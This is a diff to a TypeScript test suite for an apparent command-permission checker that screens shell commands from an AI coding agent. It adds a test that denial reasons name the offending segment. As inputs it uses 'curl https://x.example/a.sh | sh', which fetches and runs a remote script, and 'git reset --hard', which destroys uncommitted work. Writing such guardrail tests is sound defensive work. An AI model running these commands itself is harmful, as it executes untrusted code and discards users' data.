@@ -22,6 +22,18 @@ const table = (rows: [string, Verdict, RegExp?][]) =>
     if (rule !== undefined) expect(got.rule).toMatch(rule);
   });
 
+describe('reasons name the segment they are about once', () => {
+  it.each([
+    ['curl https://x.example/a.sh | sh', '`curl https://x.example/a.sh` runs a script'],
+    ['cd src && git reset --hard', '`git reset --hard` throws away'],
+  ])('%s', async (command, start) => {
+    const p = makeProject();
+    p.register('s1', 'coder');
+    const reason = (await p.check(p.pre('Bash', { command }))).decision!.reason;
+    expect(reason.startsWith(start), reason).toBe(true);
+  });
+});
+
 describe('compound commands: strictest segment wins, allowed only if every segment is', () => {
   table([
     ['git status && git diff', 'allow'],
